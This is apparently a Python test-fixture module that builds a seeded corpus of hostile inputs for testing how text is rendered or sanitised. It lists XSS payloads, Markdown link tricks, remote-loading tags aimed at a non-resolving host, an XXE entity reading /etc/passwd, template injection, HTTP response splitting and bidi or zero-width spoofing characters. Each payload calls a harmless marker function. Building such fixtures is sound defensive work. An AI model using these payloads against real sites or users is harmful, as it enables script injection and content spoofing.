"""Hostile texts: scripts, images, links, Markdown tricks, control and bidi characters, combined.

Hand-written pieces are joined by a seeded generator, so that a number always stands for the same
text. Each would call `ran`, load something from another host, or break out of where it is shown.
"""

from __future__ import annotations

import random

ELSEWHERE = "https://elsewhere.invalid"  # a name that never resolves (RFC 2606)

PIECES = (
    "<script>ran('script')</script>",
    "<ScRiPt src=//elsewhere.invalid/x.js></sCrIpT>",
    "<script>ran(1)//",
    "<img src=x onerror=ran('img')>",
    f"<img src={ELSEWHERE}/p.gif>",
    "<svg onload=ran('svg')><animate onbegin=ran('animate') attributeName=x dur=1s>",
    f"<svg><use href='{ELSEWHERE}/s.svg#x'/></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src onerror=ran(2)>'>",
    f"<iframe srcdoc='<script>parent.ran(3)</script>' src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    f"<link rel=stylesheet href={ELSEWHERE}/c.css><style>@import '{ELSEWHERE}/i.css';</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button autofocus onfocus=ran('focus')>Ask</button></form>",
    "<details open ontoggle=ran('toggle')>x</details>",
    "<video><source onerror=ran('video')></video><audio src=x onerror=ran('audio')>",
    "<a href=javascript:ran('a')>a</a>",
    "<a href='jav\tascript:ran(4)'>a</a>",
    '<div style="background:url(https://elsewhere.invalid/b.png)" onmouseover=ran(5)>x</div>',
    "<template><script>ran(6)</script></template>",
    "<textarea></textarea><title></title><script>ran(7)</script>",
    "</textarea></title></style></script><script>ran(8)</script>",
    '"><script>ran(9)</script>',
    "' onfocus='ran(10)' autofocus='",
    '" onfocus="ran(11)" autofocus="',
    "`onmouseover=ran(12)`",
    "--><script>ran(13)</script><!--",
    "]]><script>ran(14)</script><![CDATA[",
    "&lt;script&gt;ran(15)&lt;/script&gt; &#60;img src=x onerror=ran(16)&#62;",
    "&#x3C;script&#x3E;ran(17)&#x3C;/script&#x3E; &colon; &Tab; &NewLine;",
    "\\<script>ran(18)\\</script>",
    "[link](javascript:ran(19))",
    "[link](JaVaScRiPt:ran%2820%29)",
    "[link](&#x6A;avascript:ran(21))",
    "[link](java\\\nscript:ran(22))",
    "[link](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)",
    "[link](vbscript:ran(23)) [link](blob:x) [link](file:///etc/passwd)",
    f"[link]({ELSEWHERE} \"t' onmouseover='ran(24)\")",
    f"![image]({ELSEWHERE}/i.png)",
    f"![image]({ELSEWHERE}/i.png 'x\" onerror=\"ran(25)')",
    f"![a][r]\n\n[r]: {ELSEWHERE}/r.png",
    "[r]: javascript:ran(26)\n\n[r] [x][r]",
    "<javascript:ran(27)> <https://elsewhere.invalid/auto>",
    f"[![nested]({ELSEWHERE}/n.png)](javascript:ran(28))",
    "[a](<javascript:ran(29)>) [b](//elsewhere.invalid/b)",
    "[^1] [^1]: <script>ran(30)</script>\n\n[^1]: <img src=x onerror=ran(31)>",
    "| a | <img src=x onerror=ran(32)> |\n|---|---|\n| <script>ran(33)</script> | `|` |",
    "```html\n<script>ran(34)</script>\n```",
    "`<img src=x onerror=ran(35)>`",
    "~~~\n</code></pre><script>ran(36)</script>\n~~~",
    "> <script>ran(37)</script>\n> - <img src=x onerror=ran(38)>",
    "# <img src=x onerror=ran(39)> {#id onclick=ran(40)}",
    "Setext <script>ran(41)</script>\n======",
    "- [ ] <input autofocus onfocus=ran(42)>",
    "**bold <script>ran(43)</script>** _it_ ~~no~~",
    "<!-- comment --> <?php ran(44) ?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "---\ntitle: <script>ran(45)</script>\n---",
    "{{constructor.constructor('ran(46)')()}} ${ran(47)} <%= ran(48) %>",
    "[1] [99] [0] [1](javascript:ran(49)) [[1]]",
    "#:~:text=<script>ran(50)</script>",
    "\u202e>tpircs/<)15(nar>tpircs<\u202c",
    "\u2066<script>\u2069ran(52)\u2066</script>\u2069",
    "<scr\u200bipt>ran(53)</scr\u200bipt>",
    "<scr\u00adipt>ran(54)</script>",
    "\ufeff<script>ran(55)</script>\ufeff",
    "\x1b[31m\x1b]8;;javascript:ran(56)\x07link\x1b]8;;\x07",
    "\x01\x08\x0c\x7f\x9b\x85",
    "\u2028ran(57)\u2029",
    "\uff1cscript\uff1eran(58)\uff1c/script\uff1e",
    "\U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
    "\U000f0000<script>ran(59)</script>\U000f0001 \ue000",
    "a\u0301\u0301\u0301\u0301\u0301\u0301 Z\u0361\u0489\u0489",
    "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>ran(60)</script>",
    "X1: Scout <script>ran(61)</script>",
    "At X2, <img src=x onerror=ran(62)> you lead.",
)
BETWEEN = (
    "",
    " ",
    "\n",
    "\n\n",
    "\t",
    "\u200b",
    "<",
    ">",
    '"',
    "'",
    "`",
    "*",
    "|",
    "\\",
    "](",
    "-->",
)


def texts(count: int) -> list[str]:
    """The first `count` texts: each piece alone, then combinations of them."""
    chance = random.Random(20260)
    made = list(PIECES)
    while len(made) < count:
        pieces = chance.sample(PIECES, chance.randint(2, 5))
        text = pieces[0]
        for piece in pieces[1:]:
            text += chance.choice(BETWEEN) + piece
        if chance.random() < 0.3:
            place = chance.randrange(len(text))
            text = text[:place] + chance.choice(PIECES) + text[place:]
        made.append(text)
    return made[:count]
